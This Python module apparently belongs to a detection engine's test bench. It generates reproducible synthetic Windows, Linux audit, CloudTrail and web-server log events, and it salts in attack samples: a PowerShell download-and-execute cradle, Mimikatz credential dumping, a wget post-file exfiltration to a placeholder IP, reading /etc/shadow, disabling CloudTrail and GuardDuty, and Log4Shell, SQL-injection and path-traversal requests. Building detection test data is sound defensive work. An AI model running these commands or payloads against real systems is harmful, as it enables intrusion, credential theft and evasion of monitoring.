"""Events of a company's sources in one stream: the same for the same seed, no two alike, one in 200 an attack.

Of ten, four are of Windows (six log sources in equal parts), two of Linux's audit system, two of CloudTrail, and two
are requests to a web server as JSON.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator
from dataclasses import astuple
from random import Random
from typing import Any

import orjson

from detector.demo.cloud import ACCOUNT, Call, Cloud
from detector.demo.generator import access_lines
from detector.demo.lines import Stamp
from detector.events import Event
from detector.sigma.fields import values_at
from tests.bench.processes import ATTACKS_EVERY, sysmon_events

_START_S = 1_717_200_000
_WINDOWS = 6
_AT_ONCE = 2_000
_MADE = {"pairs", "argv"}
"""Fields of a line that nobody who reads pairs has."""
_WORDS = ("billing", "orders", "ledger", "catalog", "shipping", "intake", "archive", "portal", "metrics", "payroll")
_PROGRAMS = (r"C:\Program Files\{w}\{w}.exe", r"C:\Windows\System32\svchost.exe", r"C:\Windows\explorer.exe")
_CMDLETS = (
    "Get-ChildItem -Path D:\\data\\{w} -Filter *.csv | Where-Object {{ $_.Length -gt {n} }} | Sort-Object Length",
    "$rows = Import-Csv '\\\\files\\{w}\\{h}.csv'; foreach ($row in $rows) {{ Write-Output $row.Name }} # {n}",
    "function Get-{w}Report {{ param([int]$Id = {n}) Write-Verbose 'report {h}'; return $Id }}",
)
_SCRIPT_ATTACKS = (
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/{h}.ps1')",
    "Invoke-Mimikatz -DumpCreds # {h}",
    "Set-MpPreference -DisableRealtimeMonitoring $true # {h}",
)
_COMMANDS = (
    ("/usr/bin/rsync", ("rsync", "-a", "/srv/{w}/{n}", "backup:/srv/{h}")),
    ("/usr/bin/python3", ("python3", "/opt/{w}/job.py", "--run", "{h}")),
    ("/usr/bin/gzip", ("gzip", "-9", "/var/tmp/{w}-{n}.log")),
)
_COMMAND_ATTACKS = (
    ("/usr/bin/wget", ("wget", "--post-file=/tmp/{h}", "203.0.113.7")),
    ("/usr/bin/chattr", ("chattr", "-i", "/tmp/{h}")),
    ("/usr/bin/cat", ("cat", "/etc/shadow", "/tmp/{h}")),
)
_CALL_ATTACKS = (
    Call("cloudtrail", "StopLogging", '{"name":"organization"}'),
    Call("guardduty", "DeleteDetector", '{"detectorId":"12abc34d567e8fa901bc2d34e56789f0"}'),
    Call("iam", "CreateLoginProfile", '{"userName":"backup"}'),
)
_PATH_ATTACKS = (
    "/search?q=$%7Bjndi:ldap://203.0.113.7:1389/{h}%7D",
    "/product?id=-1%20UNION%20SELECT%20username,password%20FROM%20users--{h}",
    "/static/..%2f..%2f..%2fetc%2fpasswd?{h}",
)


def mixed_records(count: int, seed: int = 1) -> Iterator[bytes]:
    """JSON objects, and lines of the audit system, as they stand in a topic."""
    random = Random(seed)
    processes = sysmon_events(count, seed)
    cloud, stamp = Cloud(random), Stamp()
    web = access_lines(count, seed, _START_S * 1_000_000)
    for number in range(count):
        stamp.set((_START_S + number // 100) * 1_000_000)
        attack = number % ATTACKS_EVERY < 10 and number // ATTACKS_EVERY % 10 == number % 10
        match number % 10:
            case 0 | 2 | 5 | 7:
                yield _windows(number, random, processes, attack=attack)
            case 1 | 6:
                yield _audit(number, random, attack=attack)
            case 3 | 8 if attack:
                identity = f'{{"type":"IAMUser","arn":"arn:aws:iam::{ACCOUNT}:user/mallory","userName":"mallory"}}'
                yield cloud.of(stamp, random.choice(_CALL_ATTACKS), identity, "203.0.113.7").encode()
            case 3 | 8:
                yield cloud.event(stamp).encode()
            case _:
                yield _request(next(web).decode(), random, attack=attack)


def _windows(number: int, random: Random, processes: Iterator[bytes], *, attack: bool) -> bytes:
    kind = (number // 10 * 4 + (number % 10) // 2) % _WINDOWS
    if kind == 0:
        return next(processes)
    made = (_registry, _file, _script, _logon, _image)[kind - 1](random, attack)
    host = f"{random.choice(_WORDS)}-ws{random.randrange(5000):04}.corp.example"
    head = {"EventID": made.pop("EventID"), "Version": 2, "Level": 4, "Task": 1, "Opcode": 0}
    head |= {"EventRecordID": 10_000_000 + number, "Channel": made.pop("Channel"), "Computer": host}
    head |= {"TimeCreated_SystemTime": f"2024-06-01T{number // 3600 % 24:02}:{number // 60 % 60:02}:{number % 60:02}Z"}
    head |= {"Execution_ProcessID": random.randrange(9000), "Execution_ThreadID": random.randrange(9000)}
    return orjson.dumps(head | made)


def _sysmon(event: int, random: Random) -> dict[str, Any]:
    return {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "EventID": event,
        "RuleName": "-",
        "ProcessGuid": _hex(random, 128),
        "ProcessId": random.randrange(60_000),
        "Image": _filled(random.choice(_PROGRAMS), random),
        "User": f"CORP\\{random.choice(_WORDS)}",
    }


def _registry(random: Random, attack: bool) -> dict[str, Any]:
    key = r"\Microsoft\Windows\CurrentVersion\Run\{h}" if attack else r"\{w}\Settings\{h}"
    details = r"C:\Users\Public\{h}.exe" if attack else "DWORD (0x{h})"
    target = _filled(rf"HKLM\SOFTWARE{key}", random)
    return _sysmon(13, random) | {"EventType": "SetValue", "TargetObject": target, "Details": _filled(details, random)}


def _file(random: Random, attack: bool) -> dict[str, Any]:
    name = r"C:\Windows\Temp\{h}.dmp" if attack else r"C:\Users\{w}\AppData\Local\{w}\cache\{h}.tmp"
    return _sysmon(11, random) | {
        "TargetFilename": _filled(name, random),
        "CreationUtcTime": f"2024-06-01 00:00:00.{random.randrange(1000)}",
    }


def _image(random: Random, attack: bool) -> dict[str, Any]:
    name = r"C:\Users\Public\{h}\dbghelp.dll" if attack else r"C:\Program Files\{w}\lib{w}{n}.dll"
    loaded = _filled(name, random)
    return _sysmon(7, random) | {
        "ImageLoaded": loaded,
        "FileVersion": f"1.{random.randrange(900)}",
        "Description": f"{random.choice(_WORDS)} library",
        "Company": "Example",
        "OriginalFileName": loaded.rpartition("\\")[2],
        "Hashes": f"MD5={_hex(random, 128)},SHA256={_hex(random, 256)},IMPHASH={_hex(random, 128)}",
        "Signed": "true",
        "Signature": "Example",
        "SignatureStatus": "Valid",
    }


def _script(random: Random, attack: bool) -> dict[str, Any]:
    text = "\n".join(_filled(random.choice(_CMDLETS), random) for _ in range(6))
    return {
        "Channel": "Microsoft-Windows-PowerShell/Operational",
        "Provider_Name": "Microsoft-Windows-PowerShell",
        "EventID": 4104,
        "MessageNumber": 1,
        "MessageTotal": 1,
        "ScriptBlockText": text + ("\n" + _filled(random.choice(_SCRIPT_ATTACKS), random) if attack else ""),
        "ScriptBlockId": _hex(random, 128),
        "Path": _filled(r"C:\ops\{w}\{h}.ps1", random),
    }


def _logon(random: Random, attack: bool) -> dict[str, Any]:
    return {
        "Channel": "Security",
        "Provider_Name": "Microsoft-Windows-Security-Auditing",
        "EventID": 4625 if attack else 4624,
        "SubjectUserSid": "S-1-5-18",
        "SubjectUserName": "-",
        "TargetUserSid": f"S-1-5-21-{random.getrandbits(32)}-{random.getrandbits(32)}",
        "TargetUserName": random.choice(_WORDS),
        "TargetDomainName": "CORP",
        "TargetLogonId": f"0x{random.getrandbits(28):x}",
        "LogonType": 3,
        "LogonProcessName": "NtLmSsp ",
        "AuthenticationPackageName": "NTLM",
        "WorkstationName": f"WS{random.randrange(5000)}",
        "LogonGuid": _hex(random, 128),
        "IpAddress": _address(random),
        "IpPort": random.randrange(1024, 65_536),
    }


def _audit(number: int, random: Random, *, attack: bool) -> bytes:
    head = f"msg=audit({_START_S + number // 100}.{number % 1000:03}:{number}):"
    executable, arguments = random.choice(_COMMAND_ATTACKS if attack else _COMMANDS)
    if attack or random.random() < 0.5:
        texts = [_filled(part, random) for part in arguments]
        pairs = " ".join(f'a{place}="{text}"' for place, text in enumerate(texts))
        return f"type=EXECVE {head} argc={len(texts)} {pairs}".encode()
    if random.random() < 0.5:
        path = _filled("/var/lib/{w}/{n}/{h}", random)
        return (
            f'type=PATH {head} item=0 name="{path}" inode={random.getrandbits(24)} dev=fd:01 mode=0100644 ouid=0 '
            f"ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
        ).encode()
    return (
        f"type=SYSCALL {head} arch=c000003e syscall={random.choice((2, 59, 42, 87))} success=yes exit=0 "
        f"a0={random.getrandbits(47):x} a1={random.getrandbits(47):x} a2=0 a3=1b6 items=1 "
        f"ppid={random.randrange(9000)} pid={random.randrange(60_000)} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 "
        f'tty=pts0 ses={random.randrange(900)} comm="{arguments[0]}" exe="{executable}" key="{random.choice(_WORDS)}"'
    ).encode()


def _request(line: str, random: Random, *, attack: bool) -> bytes:
    address, _, rest = line.partition(" ")
    _, request, status_size, referrer, _, agent, _ = rest.split('"')
    status, size = status_size.split()
    method, url, protocol = request.split(" ")
    stem, _, query = (_filled(random.choice(_PATH_ATTACKS), random) if attack else url).partition("?")
    return orjson.dumps({
        "date": "2024-06-01",
        "c-ip": address,
        "cs-method": method,
        "cs-uri-stem": stem,
        "cs-uri-query": query or "-",
        "cs-version": protocol,
        "sc-status": int(status),
        "sc-bytes": 0 if size == "-" else int(size),
        "cs-referer": referrer,
        "cs-user-agent": agent,
        "time-taken": round(random.random(), 3),
    })  # fmt: skip


def rival_records(records: Iterable[bytes], parse: Callable[[list[bytes]], list[Event]]) -> Iterator[bytes]:
    """The same as JSON objects for who knows no formats: with fields in Sigma's names, and the parts of a log source.

    A part that the log source leaves open is `none`, so that rules that name another one are not asked. Of several log
    sources it is the one that says most, of these the last.
    """
    for start in range(0, len(listed := list(records)), _AT_ONCE):
        part = listed[start : start + _AT_ONCE]
        yield from map(_rival, part, parse(part))  # each record is one event


def _rival(record: bytes, event: Event) -> bytes:
    declared = [binding.logsource for binding in event.bindings]
    named = max(reversed(declared), key=lambda each: sum(part is not None for part in astuple(each)))
    parts = {name: getattr(named, name) or "none" for name in ("product", "category", "service")}
    if not event.text:
        return record[:-1] + b"," + orjson.dumps(parts)[1:]
    fields = {name: value for name, value in event.raw.items() if name not in _MADE}
    for name in event.bindings[0].aliases:
        for value in values_at(event, event.bindings[0].aliases, name):
            fields[name] = value
    return orjson.dumps(fields | {"message": event.original.decode()} | parts)


def _filled(template: str, random: Random) -> str:
    return template.format(n=random.randrange(10**6), h=f"{random.getrandbits(64):016x}", w=random.choice(_WORDS))


def _hex(random: Random, bits: int) -> str:
    return f"{random.getrandbits(bits):0{bits // 4}X}"


def _address(random: Random) -> str:
    return f"10.{random.randrange(256)}.{random.randrange(256)}.{random.randrange(1, 255)}"
